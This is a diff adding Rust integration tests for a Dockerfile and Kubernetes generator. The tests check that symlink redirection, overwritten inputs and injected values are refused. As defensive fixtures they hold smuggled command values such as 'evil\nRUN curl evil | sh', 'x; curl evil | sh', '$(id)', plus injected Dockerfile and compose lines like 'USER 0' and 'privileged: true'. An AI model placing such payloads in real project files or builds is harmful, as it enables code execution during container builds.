@@ -5,6 +5,7 @@
 //! Values that cannot be quoted safely (names, paths, image references) must be rejected.
 
 mod common;
+mod render_check;
 
 use common::{toml_multiline_string, toml_string, Project, OUTPUTS};
 use std::collections::BTreeMap;
@@ -958,4 +959,963 @@ fn rejects_an_image_with_a_dollar() {
         },
         "is not a valid image reference",
     );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Writes stay inside the project: no symbolic link, planted or committed, leads a write out.
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_k8s_dir_pointing_outside_the_project_is_refused() {
+    let outside = Project::empty();
+    let project = Project::fresh_example("cli-hello");
+    std::os::unix::fs::symlink(outside.root(), project.path("k8s")).unwrap();
+    for args in [&["init"][..], &["init", "--force"]] {
+        let output = project.run_rejected(args);
+        assert!(
+            output.stderr.contains("`k8s` is a symbolic link to")
+                && output.stderr.contains("outside the project"),
+            "{}",
+            output.report()
+        );
+        assert!(
+            outside.files().is_empty(),
+            "written outside: {:?}",
+            outside.files()
+        );
+        assert!(!project.exists("Dockerfile"));
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_output_file_is_never_written_through() {
+    let outside = Project::empty();
+    outside.write("victim", "precious\n");
+    let project = Project::fresh_example("cli-hello");
+    std::os::unix::fs::symlink(outside.path("victim"), project.path("Dockerfile")).unwrap();
+    // Also a link that stays inside the project: an output is a file of its own.
+    project.write("elsewhere/compose.yaml", "mine\n");
+    let output = project.run_rejected(&["init", "--force"]);
+    assert!(
+        output
+            .stderr
+            .contains("refusing to write `Dockerfile`: it is a symbolic link"),
+        "{}",
+        output.report()
+    );
+    assert_eq!(outside.read("victim"), "precious\n");
+    std::fs::remove_file(project.path("Dockerfile")).unwrap();
+    std::os::unix::fs::symlink("elsewhere/compose.yaml", project.path("compose.yaml")).unwrap();
+    let output = project.run_rejected(&["init", "--force"]);
+    assert!(
+        output
+            .stderr
+            .contains("refusing to write `compose.yaml`: it is a symbolic link"),
+        "{}",
+        output.report()
+    );
+    assert_eq!(project.read("elsewhere/compose.yaml"), "mine\n");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_pyproject_inside_the_project_is_written_through_its_target() {
+    let project = Project::fresh_example("cli-hello");
+    let text = project.read("pyproject.toml");
+    project.write("config/pyproject.toml", &text);
+    project.remove("pyproject.toml");
+    std::os::unix::fs::symlink("config/pyproject.toml", project.path("pyproject.toml")).unwrap();
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    let link = std::fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
+    assert!(
+        link.file_type().is_symlink(),
+        "the link was replaced by a file"
+    );
+    let written = project.read("config/pyproject.toml");
+    assert!(
+        written.starts_with(&text) && written.contains("[tool.uv-rootless]"),
+        "{written}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_pyproject_outside_the_project_is_refused() {
+    let outside = Project::empty();
+    let project = Project::fresh_example("cli-hello");
+    let text = project.read("pyproject.toml");
+    outside.write("pyproject.toml", &text);
+    project.remove("pyproject.toml");
+    std::os::unix::fs::symlink(
+        outside.path("pyproject.toml"),
+        project.path("pyproject.toml"),
+    )
+    .unwrap();
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains("refusing to write `pyproject.toml`")
+            && output.stderr.contains("outside the project"),
+        "{}",
+        output.report()
+    );
+    assert_eq!(outside.read("pyproject.toml"), text);
+    let link = std::fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
+    assert!(link.file_type().is_symlink());
+}
+
+/// A link planted at every temporary name a run could have used with a predictable scheme
+/// (the name and the next few hundred process ids) must not be followed.
+#[cfg(unix)]
+#[test]
+fn a_symlink_planted_at_a_guessable_temporary_name_redirects_nothing() {
+    let outside = Project::empty();
+    let project = Project::fresh_example("cli-hello");
+    let mut next = std::process::Command::new("true").spawn().unwrap();
+    let pid = next.id();
+    next.wait().unwrap();
+    for guess in pid..pid + 400 {
+        for name in [
+            "Dockerfile",
+            "compose.yaml",
+            ".dockerignore",
+            "pyproject.toml",
+        ] {
+            std::os::unix::fs::symlink(
+                outside.path(&format!("{name}-{guess}")),
+                project.path(&format!(".{name}.uv-rootless-{guess}.tmp")),
+            )
+            .unwrap();
+        }
+    }
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    assert!(
+        outside.files().is_empty(),
+        "written outside: {:?}",
+        outside.files().keys()
+    );
+    for name in [
+        "Dockerfile",
+        "compose.yaml",
+        ".dockerignore",
+        "pyproject.toml",
+    ] {
+        let meta = std::fs::symlink_metadata(project.path(name)).unwrap();
+        assert!(meta.is_file(), "{name} is not a plain file");
+    }
+}
+
+/// `--force` over an output that is a directory: the run fails on it, and the outputs before
+/// it must not have been replaced already.
+#[test]
+fn a_target_that_cannot_be_replaced_changes_no_other_file() {
+    let project = Project::example("cli-hello");
+    project.replace("Dockerfile", "USER 65532:65532\n", "USER 1:1\n");
+    project.replace("compose.yaml", "read_only: true", "read_only: false");
+    project.remove("k8s/manifest.yaml");
+    project.write("k8s/manifest.yaml/keep", "a directory in the way\n");
+    let before = project.files_with_mtimes();
+    let output = project.run_rejected(&["generate", "--force"]);
+    common::assert_same_files(&before, &project.files_with_mtimes(), &"generate --force");
+    assert!(
+        output.stderr.contains("k8s/manifest.yaml"),
+        "{}",
+        output.report()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// `init` edits `[tool.uv-rootless]` only: the rest of pyproject.toml keeps every byte.
+
+/// cli-hello before `init`, its pyproject.toml passed through `shape`; returns the text
+/// written and what `init` made of it.
+fn init_pyproject(shape: impl FnOnce(&str) -> String) -> (String, String) {
+    let project = Project::fresh_example("cli-hello");
+    let text = shape(&project.read("pyproject.toml"));
+    project.write("pyproject.toml", &text);
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    let check = project.run(&["check"]);
+    assert_eq!(check.code, 0, "{}", check.report());
+    (text, project.read("pyproject.toml"))
+}
+
+const RECORDED: &str =
+    "# Base image family: \"python-slim\" or \"azurelinux\".\nbase = \"python-slim\"\n";
+
+#[test]
+fn init_keeps_crlf_line_endings_of_pyproject() {
+    let (before, after) = init_pyproject(|text| text.replace('\n', "\r\n"));
+    assert!(after.starts_with(&before), "{after:?}");
+    let added = &after[before.len()..];
+    assert_eq!(
+        added,
+        format!("\n[tool.uv-rootless]\n{RECORDED}").replace('\n', "\r\n")
+    );
+}
+
+#[test]
+fn init_keeps_a_byte_order_mark_of_pyproject() {
+    let (before, after) = init_pyproject(|text| format!("\u{feff}{text}"));
+    assert!(after.starts_with(&before), "{after:?}");
+}
+
+#[test]
+fn init_keeps_a_missing_final_newline_of_pyproject() {
+    let (before, after) = init_pyproject(|text| text.trim_end().to_string());
+    assert!(after.starts_with(&before), "{after:?}");
+    assert!(!after.ends_with('\n'), "{after:?}");
+    assert_eq!(
+        &after[before.len()..],
+        format!("\n\n[tool.uv-rootless]\n{}", RECORDED.trim_end())
+    );
+}
+
+#[test]
+fn init_keeps_the_quoting_of_a_value_it_does_not_change() {
+    let (before, after) = init_pyproject(|text| {
+        format!("{text}\n[tool.uv-rootless]\nbase = 'python-slim'  # mine\n")
+    });
+    assert_eq!(after, before);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Output paths: each is also a line of `.dockerignore`, and none may replace an input.
+
+fn rejected_output_path(key: &str, value: &str, expected: &str) {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        format!(
+            "{text}\n[tool.uv-rootless]\n{key} = {}\n",
+            toml_string(value)
+        )
+    });
+    for args in [&["init"][..], &["init", "--force"]] {
+        let output = project.run_rejected(args);
+        assert!(
+            output.stderr.contains(expected),
+            "{key} = {value:?}: expected {expected:?} in\n{}",
+            output.stderr
+        );
+    }
+}
+
+#[test]
+fn rejects_an_output_path_that_negates_a_dockerignore_exclusion() {
+    rejected_output_path("dockerfile", "!.env", "cannot quote safely");
+}
+
+#[test]
+fn rejects_an_output_path_with_unicode_whitespace_at_an_end() {
+    rejected_output_path("compose", "compose.yaml\u{a0}", "cannot quote safely");
+    rejected_output_path("compose", "\u{2003}compose.yaml", "cannot quote safely");
+}
+
+#[test]
+fn rejects_an_output_path_on_a_member_manifest() {
+    rejected_output_path(
+        "kubernetes",
+        "packages/api/pyproject.toml",
+        "would overwrite one of the project's own files",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_on_an_input_in_another_case() {
+    rejected_output_path(
+        "dockerfile",
+        "UV.lock",
+        "would overwrite one of the project's own files",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_docker_reads_as_an_ignore_file() {
+    rejected_output_path(
+        "compose",
+        "Dockerfile.dockerignore",
+        "would overwrite one of the project's own files",
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Every name and version in uv.lock is checked when the lock is read, installed or not.
+
+/// cli-hello with `extra` appended to its lock, and `edge` added to cli-hello's dependencies.
+fn edited_lock(edge: &str, extra: &str) -> Project {
+    let project = Project::fresh_example("cli-hello");
+    project.replace(
+        "uv.lock",
+        "dependencies = [\n    { name = \"click\" },\n]\n",
+        &format!("dependencies = [\n    {{ name = \"click\" }},\n    {edge},\n]\n"),
+    );
+    if !extra.is_empty() {
+        project.edit("uv.lock", |text| format!("{text}{extra}"));
+    }
+    project
+}
+
+fn assert_lock_rejected(project: &Project, expected: &str) {
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains(expected) && output.stderr.contains("run `uv lock`"),
+        "expected {expected:?} in\n{}",
+        output.stderr
+    );
+    for file in OUTPUTS {
+        assert!(!project.exists(file), "{file} was written");
+    }
+}
+
+/// A git package only Windows installs: no install check looks at it, but "git for `NAME`"
+/// went into a Dockerfile comment, where the newline started a `run` instruction.
+#[test]
+fn a_lock_package_name_with_a_newline_never_reaches_the_dockerfile() {
+    let project = edited_lock(
+        r#"{ name = "evil\nRUN curl evil | sh", marker = "sys_platform == 'win32'" }"#,
+        "\n[[package]]\nname = \"evil\\nRUN curl evil | sh\"\nversion = \"1.0\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
+    );
+    assert_lock_rejected(
+        &project,
+        "`uv.lock` has an invalid name in `dependencies[].name` of package `cli-hello`",
+    );
+}
+
+#[test]
+fn a_lock_version_with_a_newline_is_rejected() {
+    let project = edited_lock(
+        r#"{ name = "evil", marker = "sys_platform == 'win32'" }"#,
+        "\n[[package]]\nname = \"evil\"\nversion = \"1.0\\nRUN curl evil | sh\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
+    );
+    assert_lock_rejected(
+        &project,
+        "`uv.lock` has an invalid version in `version` of package `evil`",
+    );
+}
+
+#[test]
+fn a_lock_extra_name_with_a_backtick_is_rejected() {
+    let project = edited_lock(r#"{ name = "click", extra = ["x`id`"] }"#, "");
+    assert_lock_rejected(&project, "`dependencies[].extra` of package `cli-hello`");
+}
+
+// ---------------------------------------------------------------------------------------------
+// `extras` go into `RUN uv sync --extra NAME`.
+
+#[test]
+fn rejects_an_extra_that_is_not_a_name_even_when_defined() {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        text.replace(
+            "[project.scripts]",
+            "[project.optional-dependencies]\n\"x; curl evil | sh\" = []\n\n[project.scripts]",
+        ) + "\n[tool.uv-rootless]\nextras = [\"x; curl evil | sh\"]\n"
+    });
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains("`extras` in `[tool.uv-rootless]` has \"x; curl evil | sh\", which is not an extra name"),
+        "{}",
+        output.report()
+    );
+    assert!(!project.exists("Dockerfile"));
+}
+
+// ---------------------------------------------------------------------------------------------
+// pep508_rs panics on some markers (`'linux' ~= sys_platform`): an error, never exit 101.
+
+fn assert_marker_rejected(project: &Project, expected: &str) {
+    for command in ["check", "init", "explain"] {
+        let output = project.run_rejected(&[command]);
+        assert!(
+            !output.stderr.contains("panicked") && output.stderr.contains(expected),
+            "{command}: expected {expected:?} in\n{}",
+            output.report()
+        );
+    }
+}
+
+#[test]
+fn a_string_compared_with_tilde_equal_in_dependencies_is_an_error_not_a_panic() {
+    let project = Project::fresh_example("cli-hello");
+    project.replace(
+        "pyproject.toml",
+        "\"click>=8.1\"",
+        "\"click>=8.1; 'linux' ~= sys_platform\"",
+    );
+    assert_marker_rejected(&project, "a marker compares a string with `~=`");
+}
+
+#[test]
+fn a_string_compared_with_tilde_equal_in_a_lock_marker_is_an_error_not_a_panic() {
+    let project = edited_lock(
+        r#"{ name = "colorama", marker = "'linux' ~= sys_platform" }"#,
+        "",
+    );
+    assert_marker_rejected(
+        &project,
+        "`uv.lock` has an invalid marker in `dependencies[].marker` of package `cli-hello`",
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Ids and ports the container could not use.
+
+#[test]
+fn rejects_a_uid_or_gid_above_what_kubernetes_accepts() {
+    let project = Project::fresh_example("cli-hello");
+    for args in [
+        &["init", "--uid", "2147483648"][..],
+        &["init", "--uid", "4294967295"],
+        &["init", "--gid", "4294967295"],
+    ] {
+        let output = project.run_rejected(args);
+        assert!(
+            output
+                .stderr
+                .contains("above 2147483647, the largest id Kubernetes accepts"),
+            "{args:?}: {}",
+            output.report()
+        );
+    }
+    let output = project.run(&["init", "--uid", "2147483647"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+}
+
+#[test]
+fn rejects_a_web_port_below_1024_with_capabilities_dropped() {
+    let project = Project::fresh_example("fastapi-service");
+    for args in [&["init", "--port", "80"][..], &["init", "--port", "1023"]] {
+        let output = project.run_rejected(args);
+        assert!(
+            output
+                .stderr
+                .contains("which a non-root process with no capabilities cannot bind")
+                && output.stderr.contains("port of 1024 or above"),
+            "{args:?}: {}",
+            output.report()
+        );
+    }
+    let output = project.run(&["init", "--port", "1024"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+}
+
+// ---------------------------------------------------------------------------------------------
+// `[tool.uv] required-version` becomes the tag of uv's image: a release, or an error.
+
+fn with_required_version(value: &str) -> Project {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        format!(
+            "{text}\n[tool.uv]\nrequired-version = {}\n",
+            toml_string(value)
+        )
+    });
+    project
+}
+
+#[test]
+fn a_required_version_with_two_parts_pins_the_full_release_not_a_moving_tag() {
+    for (value, tag) in [
+        ("==0.13", "0.13.0"),
+        ("0.14", "0.14.0"),
+        ("==0.13.10.0", "0.13.10"),
+    ] {
+        let project = with_required_version(value);
+        let output = project.run(&["init"]);
+        assert_eq!(output.code, 0, "{value}: {}", output.report());
+        let dockerfile = project.read("Dockerfile");
+        assert!(
+            dockerfile.contains(&format!("FROM ghcr.io/astral-sh/uv:{tag} AS uv\n")),
+            "{value}:\n{dockerfile}"
+        );
+    }
+}
+
+#[test]
+fn a_required_version_that_names_no_release_is_refused() {
+    for value in [
+        "==0.13.9+local",
+        "==1!0.13.9",
+        "==0.13.9rc1",
+        "==0.13.9.post1",
+        "==0.13.9.dev0",
+        "==0.13.9.1",
+    ] {
+        let project = with_required_version(value);
+        let output = project.run_rejected(&["init"]);
+        assert!(
+            output
+                .stderr
+                .contains("which is not a uv release with an image"),
+            "{value}: {}",
+            output.report()
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Resources: inputs have a size bound, and nothing is quadratic in the lock.
+
+#[test]
+fn a_lock_larger_than_64_mib_is_refused_before_it_is_parsed() {
+    let project = Project::fresh_example("cli-hello");
+    // Valid TOML (a comment of spaces at the end), so only the bound can refuse it.
+    let mut text = project.read("uv.lock");
+    text.push('#');
+    text.push_str(&" ".repeat(64 << 20));
+    text.push('\n');
+    project.write("uv.lock", &text);
+    let started = std::time::Instant::now();
+    let output = project.run_rejected(&["check"]);
+    assert!(
+        output.stderr.contains("`uv.lock` is larger than 64 MiB"),
+        "{}",
+        output.report()
+    );
+    assert!(started.elapsed() < std::time::Duration::from_secs(5));
+}
+
+#[test]
+fn a_pyproject_larger_than_4_mib_is_refused() {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        format!("{text}#{}\n", " ".repeat(4 << 20))
+    });
+    let output = project.run_rejected(&["check"]);
+    assert!(
+        output
+            .stderr
+            .contains("`pyproject.toml` is larger than 4 MiB"),
+        "{}",
+        output.report()
+    );
+}
+
+/// Many path sources: each was searched for in the list of those seen before it.
+#[test]
+fn many_path_sources_take_linear_time() {
+    let project = Project::fresh_example("cli-hello");
+    let time = |count: usize| {
+        let mut lock =
+            std::fs::read_to_string(common::examples_dir().join("cli-hello/uv.lock")).unwrap();
+        for i in 0..count {
+            lock.push_str(&format!(
+                "\n[[package]]\nname = \"p{i}\"\nversion = \"0.1.0\"\nsource = {{ directory = \"libs/p{i}\" }}\n"
+            ));
+        }
+        project.write("uv.lock", &lock);
+        let started = std::time::Instant::now();
+        let output = project.run(&["explain"]);
+        assert_eq!(output.code, 0, "{}", output.report());
+        started.elapsed()
+    };
+    let small = time(5_000);
+    let large = time(40_000);
+    // Linear: eight times the sources, about eight times the time; quadratic, sixty-four.
+    assert!(
+        large < small * 24,
+        "5000 path sources: {small:?}, 40000: {large:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Smaller cases.
+
+#[test]
+fn a_pyproject_that_is_a_directory_is_named_as_one() {
+    let project = Project::fresh_example("cli-hello");
+    project.remove("pyproject.toml");
+    project.write("pyproject.toml/keep", "");
+    let output = project.run_rejected(&["check"]);
+    assert!(
+        output
+            .stderr
+            .starts_with("error: `pyproject.toml` is a directory, not a file\n"),
+        "{}",
+        output.report()
+    );
+}
+
+#[test]
+fn a_byte_order_mark_in_python_version_is_accepted() {
+    let project = Project::fresh_example("cli-hello");
+    project.write(".python-version", "\u{feff}3.13\r\n");
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    assert!(project.read("Dockerfile").contains("3.13"));
+}
+
+#[test]
+fn init_edits_an_inline_uv_rootless_table_in_place() {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        format!("{text}\n[tool]\nuv-rootless = {{ base = 'azurelinux' }}\n")
+    });
+    let before = project.read("pyproject.toml");
+    let output = project.run(&["init", "--uid", "1000"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    let after = project.read("pyproject.toml");
+    assert_eq!(
+        after,
+        before.replace(
+            "uv-rootless = { base = 'azurelinux' }",
+            "uv-rootless = { base = 'azurelinux', uid = 1000 }"
+        )
+    );
+    let check = project.run(&["check"]);
+    assert_eq!(check.code, 0, "{}", check.report());
+    assert!(project.read("Dockerfile").contains("USER 1000:1000"));
+}
+
+#[test]
+fn a_project_named_like_a_system_namespace_gets_a_namespace_of_its_own() {
+    for name in ["calico-system", "istio-system", "tigera-operator"] {
+        let project = project(Kind::Cli, &texts(false));
+        rename_project(&project, name);
+        let output = project.run(&["init"]);
+        assert_eq!(output.code, 0, "{}", output.report());
+        let manifest = project.read("k8s/manifest.yaml");
+        assert!(
+            manifest.contains(&format!(
+                "kind: Namespace\nmetadata:\n  name: \"app-{name}\"\n"
+            )),
+            "{name}:\n{manifest}"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Concurrent runs on one project: each reads, decides and writes alone.
+
+#[test]
+fn concurrent_inits_leave_files_from_one_run() {
+    let project = Project::fresh_example("cli-hello");
+    for round in 0..12 {
+        let children: Vec<_> = (1..=8)
+            .map(|uid| {
+                std::process::Command::new(env!("CARGO_BIN_EXE_uv-rootless"))
+                    .args([
+                        "init",
+                        "--force",
+                        "--uid",
+                        &(1000 * round + uid).to_string(),
+                    ])
+                    .current_dir(project.root())
+                    .stdout(std::process::Stdio::null())
+                    .stderr(std::process::Stdio::piped())
+                    .spawn()
+                    .unwrap()
+            })
+            .collect();
+        for child in children {
+            let output = child.wait_with_output().unwrap();
+            assert!(
+                output.status.success(),
+                "round {round}: {}",
+                String::from_utf8_lossy(&output.stderr)
+            );
+        }
+        let check = project.run(&["check"]);
+        assert_eq!(
+            check.code,
+            0,
+            "round {round}: files of different runs:\n{}",
+            check.report()
+        );
+    }
+}
+
+/// While another holds the lock on pyproject.toml, `init` reads nothing and writes nothing;
+/// it goes on once the lock is released.
+#[test]
+fn init_waits_for_the_lock_on_pyproject() {
+    let project = Project::fresh_example("cli-hello");
+    let held = std::fs::File::open(project.path("pyproject.toml")).unwrap();
+    held.lock().unwrap();
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_uv-rootless"))
+        .arg("init")
+        .current_dir(project.root())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    let early = child.try_wait().unwrap();
+    let written_early = project.exists("Dockerfile");
+    held.unlock().unwrap();
+    let status = child.wait().unwrap();
+    assert!(early.is_none(), "init finished while the lock was held");
+    assert!(!written_early, "init wrote while the lock was held");
+    assert!(status.success());
+    assert!(project.exists("Dockerfile"));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Property: hostile text in every field either is refused or renders four files of the
+// template's shape (the checks of `tests/render_check`, which the `render` fuzz target runs
+// too).
+
+/// Texts that mean something to a Dockerfile, a shell, YAML, `.dockerignore` or a terminal.
+const PROPERTY_TEXTS: &[&str] = &[
+    "\n",
+    "\r\nRUN x",
+    "x\nrun curl evil | sh",
+    "x\\\nRUN y",
+    "\"",
+    "'",
+    "$(id)",
+    "${HOME}",
+    "`id`",
+    "\\",
+    "# c",
+    "!.env",
+    "*",
+    " x ",
+    "\u{2028}",
+    "\u{85}",
+    "\u{feff}",
+    "\u{202e}",
+    "- item",
+    "key: value",
+    "{a: b}",
+    "[c]",
+    "&a *a",
+    "---",
+    "\t",
+    "\u{0}",
+    "\u{7f}",
+    "🐍",
+];
+
+/// Where in a web project a text goes: the pyproject.toml and uv.lock to write.
+fn property_case(field: &str, text: &str) -> (String, String) {
+    let pyproject = common::examples_dir().join("fastapi-service/pyproject.toml");
+    let mut pyproject = std::fs::read_to_string(pyproject).unwrap();
+    let lock =
+        std::fs::read_to_string(common::examples_dir().join("fastapi-service/uv.lock")).unwrap();
+    let quoted = toml_string(text);
+    let table = |pyproject: &mut String, line: String| {
+        if !pyproject.contains("[tool.uv-rootless]") {
+            pyproject.push_str("\n[tool.uv-rootless]\n");
+        }
+        pyproject.push_str(&line);
+        pyproject.push('\n');
+    };
+    match field {
+        "description" | "version" | "requires-python" | "license" | "base" => {
+            let start = pyproject.find(&format!("\n{field} = ")).unwrap() + 1;
+            let end = start + pyproject[start..].find('\n').unwrap();
+            pyproject.replace_range(start..end, &format!("{field} = {quoted}"));
+        }
+        "urls" => {
+            pyproject = pyproject.replacen(
+                "[project]\n",
+                &format!("[project]\nurls = {{ Source = {quoted}, {quoted} = {quoted} }}\n"),
+                1,
+            );
+        }
+        "dependency" => {
+            pyproject = pyproject.replacen(
+                "dependencies = [\n",
+                &format!(
+                    "dependencies = [\n    {},\n",
+                    toml_string(&format!("x{text}"))
+                ),
+                1,
+            );
+        }
+        "extras" => {
+            pyproject = pyproject.replacen(
+                "[project]\n",
+                &format!("[project.optional-dependencies]\n{quoted} = []\n\n[project]\n"),
+                1,
+            );
+            table(&mut pyproject, format!("extras = [{quoted}]"));
+        }
+        "groups" => {
+            pyproject = pyproject.replacen(
+                "[dependency-groups]\n",
+                &format!("[dependency-groups]\n{quoted} = []\n"),
+                1,
+            );
+            table(&mut pyproject, format!("groups = [{quoted}]"));
+        }
+        "command" | "smoke-args" | "platforms" => {
+            table(
+                &mut pyproject,
+                format!("{field} = [\"/app/bin/uvicorn\", {quoted}]"),
+            );
+        }
+        "lock-name" | "lock-version" => {
+            // A git package of the lock that Linux does not install.
+            let key = if field == "lock-name" {
+                "name"
+            } else {
+                "version"
+            };
+            let (name, version) = if key == "name" {
+                (quoted.clone(), "\"1.0\"".to_string())
+            } else {
+                ("\"evil\"".to_string(), quoted.clone())
+            };
+            let lock = format!(
+                "{lock}\n[[package]]\nname = {name}\nversion = {version}\nsource = {{ git = \"https://example.com/e.git#a\" }}\n"
+            );
+            return (pyproject, lock);
+        }
+        key => table(&mut pyproject, format!("{key} = {quoted}")),
+    }
+    (pyproject, lock)
+}
+
+const PROPERTY_FIELDS: &[&str] = &[
+    "description",
+    "version",
+    "requires-python",
+    "license",
+    "urls",
+    "dependency",
+    "extras",
+    "groups",
+    "command",
+    "smoke-args",
+    "platforms",
+    "lock-name",
+    "lock-version",
+    "image",
+    "health-path",
+    "dockerfile",
+    "compose",
+    "kubernetes",
+    "python",
+    "script",
+    "package",
+    "base",
+];
+
+#[test]
+fn hostile_text_in_every_field_is_refused_or_keeps_every_file_in_shape() {
+    let project = Project::example("fastapi-service");
+    let (mut rendered, mut refused) = (0, 0);
+    for field in PROPERTY_FIELDS {
+        for text in PROPERTY_TEXTS {
+            let (pyproject, lock) = property_case(field, text);
+            project.write("pyproject.toml", &pyproject);
+            project.write("uv.lock", &lock);
+            match uv_rootless::app::load(project.root(), Default::default()) {
+                Err(error) => {
+                    refused += 1;
+                    assert!(!error.message.is_empty());
+                    if std::env::var_os("SHOW_REFUSALS").is_some() {
+                        eprintln!("{field} {text:?}: {}", error.message);
+                    }
+                }
+                Ok(loaded) => {
+                    rendered += 1;
+                    let files: Vec<(String, String)> = loaded
+                        .rendered
+                        .iter()
+                        .map(|r| (r.path.clone(), r.content.clone()))
+                        .collect();
+                    let outputs = &loaded.plan.outputs;
+                    let paths = [
+                        outputs.dockerfile.as_str(),
+                        outputs.compose.as_str(),
+                        outputs.kubernetes.as_str(),
+                    ];
+                    if let Err(problem) = render_check::check_all(
+                        &files,
+                        paths,
+                        &outputs
+                            .context_excludes
+                            .iter()
+                            .map(String::as_str)
+                            .collect::<Vec<_>>(),
+                    ) {
+                        panic!("{field} = {text:?}: {problem}");
+                    }
+                }
+            }
+        }
+    }
+    // Both outcomes happen: the property is not met by refusing everything.
+    assert!(
+        rendered > 100 && refused > 100,
+        "{rendered} rendered, {refused} refused"
+    );
+}
+
+#[test]
+fn the_render_checks_accept_every_example_and_catch_injections() {
+    for example in [
+        "cli-hello",
+        "fastapi-service",
+        "flask-gunicorn",
+        "workspace",
+    ] {
+        let dir = common::examples_dir().join(example);
+        let read = |path: &str| std::fs::read_to_string(dir.join(path)).unwrap();
+        let files: Vec<(String, String)> = OUTPUTS
+            .iter()
+            .map(|path| (path.to_string(), read(path)))
+            .collect();
+        let plan = uv_rootless::app::load(&dir, Default::default())
+            .unwrap()
+            .plan;
+        let excludes: Vec<&str> = plan
+            .outputs
+            .context_excludes
+            .iter()
+            .map(String::as_str)
+            .collect();
+        render_check::check_all(
+            &files,
+            ["Dockerfile", "compose.yaml", "k8s/manifest.yaml"],
+            &excludes,
+        )
+        .unwrap_or_else(|problem| panic!("{example}: {problem}"));
+    }
+    let dir = common::examples_dir().join("fastapi-service");
+    let read = |path: &str| std::fs::read_to_string(dir.join(path)).unwrap();
+    let dockerfile = read("Dockerfile");
+    for injected in [
+        dockerfile.replacen("# ", "#\nrun curl evil | sh\n# ", 1),
+        dockerfile.replacen("USER ", "USER 0\nUSER ", 1),
+        dockerfile.replacen("\nFROM ", "\nFROM x\nFROM ", 1),
+        dockerfile.replacen("ENTRYPOINT [", "ENTRYPOINT sh [", 1),
+    ] {
+        assert!(
+            render_check::check_dockerfile(&injected).is_err(),
+            "{injected}"
+        );
+    }
+    let compose = read("compose.yaml");
+    for injected in [
+        compose.replacen("image: \"", "image: x\"", 1),
+        compose.replacen(
+            "image: \"",
+            "image: \"a\" # c\n    privileged: true\n    x: \"",
+            1,
+        ),
+        compose.replacen("services:", "services:\nvolumes:", 1),
+        compose.replacen("image: \"", "image: \"\u{2028}", 1),
+    ] {
+        assert!(
+            render_check::check_compose(&injected).is_err(),
+            "{injected}"
+        );
+    }
+    let manifest = read("k8s/manifest.yaml");
+    let extra = format!("{manifest}---\napiVersion: v1\nkind: Secret\n");
+    assert!(render_check::check_kubernetes(&extra).is_err());
+    let ignore = read(".dockerignore");
+    let outputs = ["Dockerfile", "compose.yaml", "k8s"];
+    assert!(render_check::check_dockerignore(&ignore, &outputs).is_ok());
+    assert!(render_check::check_dockerignore(
+        &ignore.replace("\nDockerfile\n", "\n!.env\n"),
+        &["!.env", "compose.yaml", "k8s"]
+    )
+    .is_err());
 }
